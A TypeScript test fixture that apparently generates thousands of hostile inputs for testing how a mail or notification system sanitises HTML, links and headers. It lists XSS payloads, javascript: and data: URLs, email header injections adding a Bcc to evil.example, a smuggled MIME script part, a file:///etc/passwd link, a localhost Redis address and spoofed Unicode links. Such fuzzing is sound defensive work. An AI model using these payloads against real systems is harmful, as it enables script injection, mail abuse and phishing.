/** Ways in: what may end the place a text stands in, in the spellings that readers of HTML and XML know. */
const openings = [
  '"><',
  "'><",
  '<',
  '&lt;',
  '&LT',
  '&#60;',
  '&#x3C;',
  '&#0000060',
  '&amp;lt;',
  '%3C',
  '\\u003c',
  ']]><',
  '--><',
  '--!><',
  '</a><',
  '</title></style><',
  '</td></tr></table><',
  '<!--[if mso]><',
  '<![CDATA[<',
  '\u0000<',
  '\uFF1C',
  '\uFE64',
];
const bodies = [
  'script>alert(1)</script>',
  'img src=x onerror=alert(1)>',
  'img/src/onerror=alert`1`>',
  'svg/onload=alert(1)>',
  'svg><animate onbegin=alert(1) attributeName=x>',
  'math><mtext><style><img src=x onerror=alert(1)>',
  'iframe src=javascript:alert(1)>',
  'object data=data:text/html,x>',
  'a href=javascript:alert(1)>x</a>',
  'form action=//evil.example><input autofocus onfocus=alert(1)>',
  'style>@import url(//evil.example);*{background:url(//evil.example)}</style>',
  'link rel=stylesheet href=//evil.example>',
  'meta http-equiv=refresh content=0;url=//evil.example>',
  'base href=//evil.example/>',
  'b style="position:fixed;top:0" onmouseover=alert(1)>',
  'template><script>alert(1)</script>',
];
/** Ends of lines and of parts: headers folded, encoded and in other alphabets of line ends, the boundary that our mails use. */
const lines = [
  '\r\nBcc: v@evil.example',
  '\nSubject: x',
  '\rTo: v@evil.example',
  '\r\n\tfolded: x',
  '\r\n\r\n<html>',
  '\u2028X: y',
  '\u2029X: y',
  '\u0085X: y',
  '\u000BX: y\u000C',
  '=?utf-8?q?=0d=0aBcc:v=40e.example?=',
  '=?utf-8?b?DQpCY2M6IHZAZS5leGFtcGxl?=',
  '\r\n.\r\n',
  '\r\n----_NmP-watch-Part_1\r\nContent-Type: text/html\r\n\r\n<script>',
  '\r\n----_NmP-watch-Part_1--\r\n',
  '%0d%0aBcc:%20v@evil.example',
];
/** Addresses no reader may be led to, or that must be shown as what they are. */
export const hostileLinks = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'jav&#x09;ascript:alert(1)',
  '&#106;avascript:alert(1)',
  'javascript&colon;alert(1)',
  'http:javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'DATA:text/html;base64,PHNjcmlwdD4=',
  'vbscript:x',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'view-source:https://evil.example/',
  'intent://evil.example#Intent;end',
  'tel:+1234567',
  'ftp://evil.example/',
  'https://u:p@evil.example/',
  'https://europarl.europa.eu@evil.example/',
  'https://evil.example/"onclick="alert(1)',
  "https://evil.example/'><script>alert(1)</script>",
  'https://evil.example/\r\nX: y',
  'https://\u0430\u0440\u0440\u04CF\u0435.example/',
  'https://evil.example/\u202Egpj.exe',
  'https://evil.example:99999/',
  'https:\\\\evil.example\\x',
  '//evil.example\\@good.example',
  'http://[::1]:6379/',
  `https://evil.example/${'a'.repeat(3000)}`,
  'mailto:v@evil.example?bcc=w@evil.example',
];
/** Characters that are not seen, or that change how others are: direction, no width, no character, tags, piles of accents. */
const marks = [
  '',
  '\u202E',
  '\u2066\u202A',
  '\u061C\u200F',
  '\uE000unsubscribe\uE001',
  '\u{E0001}\u{E0041}\u{E007F}',
  '\uFFF9x\uFFFBy',
  '$&',
  '\uD800',
  '\uDC00\uD800',
  '\uFFFE\u{1FFFF}',
  '{{constructor}}',
  '\u200B\u00AD\uFEFF\u2060',
  `Z${'\u0335\u0489'.repeat(40)}`,
  'x'.repeat(4000),
];

const pick = (list: readonly string[], at: number, step: number) => list[Math.floor(at / step) % list.length] ?? '';

/** A thousand different strings: what attackers put together, put together in every way. */
export const hostileStrings: readonly string[] = Array.from({ length: 1000 }, (_, at) => {
  const opened = pick(openings, at, 1) + pick(bodies, at, 7);
  const parts = [opened, pick(lines, at, 3), pick(hostileLinks, at, 5), pick(marks, at, 11)];
  return [...parts.slice(at % 4), ...parts.slice(0, at % 4), String(at)].join(at % 2 === 0 ? ' ' : '');
});

/** A thousand that begin as an address: bare, or with something before or after it. */
export const hostileAddresses: readonly string[] = Array.from({ length: 1000 }, (_, at) => {
  const link = pick(hostileLinks, at, 1);
  const after = [String(at), `#${pick(marks, at, 3)}${at}`, `?q=${pick(openings, at, 5)}${pick(bodies, at, 7)}${at}`];
  const before = at % 9 === 8 ? pick(marks, at, 2) : '';
  return before + link + (after[at % 3] ?? '') + (at % 7 === 6 ? pick(lines, at, 4) : '');
});
